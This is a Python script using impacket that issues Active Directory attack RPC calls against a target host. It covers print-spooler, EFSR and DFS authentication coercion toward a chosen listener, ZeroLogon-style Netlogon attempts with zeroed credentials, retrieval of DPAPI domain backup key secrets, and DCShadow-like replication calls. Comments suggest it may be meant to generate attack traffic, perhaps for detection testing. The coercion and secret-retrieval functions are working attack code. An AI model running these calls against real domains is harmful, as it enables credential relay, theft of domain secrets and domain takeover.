"""Makes the RPC calls of an attack for which there is no script among impacket's examples. A refusal is an answer too.

usage: calls.py CALL HOST DOMAIN NAME PASSWORD [ARGUMENT...]
"""
import sys

from impacket.dcerpc.v5 import drsuapi, epm, lsad, nrpc, rprn, srvs, transport
from impacket.dcerpc.v5.dtypes import DWORD, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
from impacket.uuid import uuidtup_to_bin

EFSR = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
DFSNM = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))
ZEROS = bytes(8)


class EfsRpcOpenFileRaw(NDRCALL):
    """MS-EFSR 3.1.4.2.1."""
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", DWORD))


class NetrDfsAddStdRoot(NDRCALL):
    """MS-DFSNM 3.1.4.4.1."""
    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD))


def text(value):
    return value + "\0"


def tried(call, *rest):
    try:
        call(*rest)
        print("answered")
    except Exception as refusal:  # whatever the server makes of it, the request was on the wire
        print("refused:", refusal)


class Target:
    def __init__(self, host, domain, name, password):
        self.host, self.login = host, (name, password, domain)

    def pipe(self, name, interface):
        way = transport.DCERPCTransportFactory(rf"ncacn_np:{self.host}[\pipe\{name}]")
        way.set_credentials(*self.login)
        link = way.get_dce_rpc()
        link.connect()
        link.bind(interface)
        return link

    def port(self, interface, sealed):
        way = transport.DCERPCTransportFactory(epm.hept_map(self.host, interface, protocol="ncacn_ip_tcp"))
        link = way.get_dce_rpc()
        if sealed:
            way.set_credentials(*self.login)
            link.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
        link.connect()
        link.bind(interface)
        return link


def sessions(target):
    tried(srvs.hNetrSessionEnum, target.pipe("srvsvc", srvs.MSRPC_UUID_SRVS), NULL, NULL, 10)


def printer(target, listener):
    link = target.pipe("spoolss", rprn.MSRPC_UUID_RPRN)
    handle = rprn.hRpcOpenPrinter(link, text(rf"\\{target.host}"))["pHandle"]
    tried(lambda: rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
        link, handle, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=text(rf"\\{listener}")))


def files(target, listener):
    request = EfsRpcOpenFileRaw()
    request["FileName"], request["Flags"] = text(rf"\\{listener}\share\file"), 0
    tried(lambda: target.pipe("lsarpc", EFSR).request(request))


def roots(target, listener):
    request = NetrDfsAddStdRoot()
    request["ServerName"], request["RootShare"], request["Comment"], request["ApiFlags"] = text(listener), text("share"), text(""), 0
    tried(lambda: target.pipe("netdfs", DFSNM).request(request))


def zeros(target, computer):
    link = target.port(nrpc.MSRPC_UUID_NRPC, sealed=False)
    for _ in range(4):
        tried(nrpc.hNetrServerReqChallenge, link, NULL, text(computer), ZEROS)
        tried(nrpc.hNetrServerAuthenticate3, link, NULL, text(computer + "$"),
              nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, text(computer), ZEROS, 0x212FFFFF)


def backup(target):
    link = target.pipe("lsarpc", lsad.MSRPC_UUID_LSAD)
    policy = lsad.hLsarOpenPolicy2(link)["PolicyHandle"]
    for secret in ("G$BCKUPKEY_PREFERRED", "G$BCKUPKEY_P"):
        tried(lsad.hLsarRetrievePrivateData, link, policy, secret)


def shadow(target):
    """DRSReplicaAdd and DRSReplicaDel (MS-DRSR 4.1.19, 4.1.21). The stub is sealed: nobody on the wire sees how empty it is."""
    link = target.port(drsuapi.MSRPC_UUID_DRSUAPI, sealed=True)
    for operation in (5, 6):
        tried(lambda: link.call(operation, bytes(64)) or link.recv())


if __name__ == "__main__":
    globals()[sys.argv[1]](Target(*sys.argv[2:6]), *sys.argv[6:])
